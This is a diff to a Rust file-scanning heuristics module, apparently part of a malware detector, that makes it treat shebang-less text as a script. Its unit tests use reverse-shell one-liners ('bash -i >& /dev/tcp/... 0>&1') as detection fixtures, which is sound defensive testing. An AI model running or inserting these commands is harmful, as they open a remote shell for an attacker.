@@ -1,7 +1,7 @@
 //! Heuristics: pure functions from a file's bytes to findings, without signatures.
 //!
-//! Owns: the dispatch on file type ([`analyze`]: ELF magic → [`elf`], `#!` →
-//! [`script`]), the [`Heuristic`] catalogue type that gives every finding a stable id,
+//! Owns: the dispatch on file type ([`analyze`]: ELF magic → [`elf`], `#!` or
+//! other text → [`script`]), the [`Heuristic`] catalogue type that gives every finding a stable id,
 //! a base score and a one-line summary, and the byte helpers both analysers share.
 //! Must not own: reading the file (the caller hands in the bytes it already read
 //! through the event fd), weights or thresholds (`verdict::decide` applies them).
@@ -58,11 +58,13 @@ pub fn catalog() -> impl Iterator<Item = &'static Heuristic> {
 }
 
 /// Runs the heuristics that fit the file: ELF files by their magic, scripts by a
-/// leading `#!`. Anything else gives no findings.
+/// leading `#!`, and any other text as a script too ([`script::looks_like_text`]):
+/// `bash ./x` and `sh < ./x` run a file that has no `#!` line, and a verdict is a
+/// property of the content, whoever reads it. Anything else gives no findings.
 pub fn analyze(bytes: &[u8]) -> Vec<Reason> {
     if bytes.starts_with(elf::MAGIC) {
         elf::analyze(bytes)
-    } else if bytes.starts_with(b"#!") {
+    } else if bytes.starts_with(b"#!") || script::looks_like_text(bytes) {
         script::analyze(bytes)
     } else {
         Vec::new()
@@ -131,10 +133,10 @@ mod tests {
         let cases: &[(&[u8], bool)] = &[
             (b"", false),
             (b"\x7fEL", false),
-            (
-                b"plain text with bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
-                false,
-            ),
+            // Text without `#!` is read as a script (`bash ./x` runs it) ...
+            (b"plain text with bash -i >& /dev/tcp/1.2.3.4/80 0>&1", true),
+            // ... binary data is not.
+            (b"\x00\x01binary bash -i >& /dev/tcp/1.2.3.4/80 0>&1", false),
             (b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", true),
             (b"\x7fELF", true),
         ];
